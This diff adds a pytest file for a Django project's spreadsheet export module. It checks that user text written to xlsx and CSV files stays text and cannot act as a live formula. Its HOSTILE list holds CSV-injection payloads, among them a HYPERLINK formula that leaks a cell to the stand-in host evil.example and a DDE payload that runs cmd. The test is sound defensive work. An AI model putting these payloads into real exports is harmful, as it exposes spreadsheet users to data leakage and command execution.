@@ -1,0 +1,91 @@
+"""User text written to xlsx and CSV stays text: never a live formula (OWASP CSV injection)."""
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+
+import pytest
+from django.utils.translation import gettext_lazy
+from openpyxl import Workbook, load_workbook
+
+from kinerja.core import spreadsheets
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+HARMLESS = ["Meningkatnya cakupan layanan", "1 = 1", "#N/A", "'quoted"]
+
+
+def _reloaded(workbook):
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return load_workbook(io.BytesIO(buffer.getvalue()))
+
+
+@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
+def test_text_written_to_a_cell_is_stored_as_text_and_read_back_unchanged(text):
+    workbook = Workbook()
+    cell = spreadsheets.write_cell(workbook.active, 1, 1, text)
+    assert cell.data_type == "s"
+    read = _reloaded(workbook).active["A1"]
+    assert read.data_type == "s"
+    # XML reads a lone carriage return as a line feed: the cell stays text either way.
+    assert (read.value or "") == text.replace("\r", "\n")
+    assert read.quotePrefix == spreadsheets.starts_dangerously(text)
+
+
+def test_an_empty_text_is_an_empty_cell():
+    workbook = Workbook()
+    assert spreadsheets.write_cell(workbook.active, 1, 1, "").value is None
+
+
+@pytest.mark.parametrize("write_only", [False, True])
+def test_appended_rows_keep_text_as_text_and_numbers_as_numbers(write_only):
+    workbook = Workbook(write_only=write_only)
+    sheet = workbook.create_sheet("data") if write_only else workbook.active
+    day = datetime.date(2026, 1, 31)
+    spreadsheets.append_row(sheet, [HOSTILE[0], -5, Decimal("-2.5"), 3.25, day, None, True])
+    spreadsheets.append_row(sheet, HOSTILE)
+    read = _reloaded(workbook).worksheets[-1]
+    first = [cell for cell in read[1]]
+    assert [c.data_type for c in first[:4]] == ["s", "n", "n", "n"]
+    assert [c.value for c in first[1:4]] == [-5, -2.5, 3.25]
+    assert first[4].value.date() == day
+    assert first[5].value is None
+    assert first[6].value is True
+    assert [c.value for c in read[2]][: len(HOSTILE)] == [
+        text.replace("\r", "\n") for text in HOSTILE
+    ]
+    assert all(c.data_type == "s" for c in read[2] if c.value is not None)
+
+
+def test_lazy_translations_and_control_characters_do_not_break_the_export():
+    workbook = Workbook()
+    spreadsheets.write_cell(workbook.active, 1, 1, gettext_lazy("Year"))
+    spreadsheets.write_cell(workbook.active, 2, 1, "Laporan\x0bbulanan\x00")
+    read = _reloaded(workbook).active
+    assert read["A1"].value in ("Year", "Tahun")
+    assert read["A2"].value == "Laporanbulanan"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_csv_field_with_a_dangerous_start_gets_an_apostrophe_and_reads_back(text):
+    buffer = io.StringIO()
+    spreadsheets.csv_writer(buffer, delimiter=";").writerow([text, -5, "Siti Aminah"])
+    [row] = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
+    assert row[0] == "'" + text
+    assert row[1:] == ["-5", "Siti Aminah"]
+    assert spreadsheets.csv_unescape(row[0]) == text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_a_harmless_csv_field_is_written_as_it_is(text):
+    assert spreadsheets.csv_field(-5) == -5
+    assert spreadsheets.csv_field(text) == text
+    assert spreadsheets.csv_unescape(text) == text
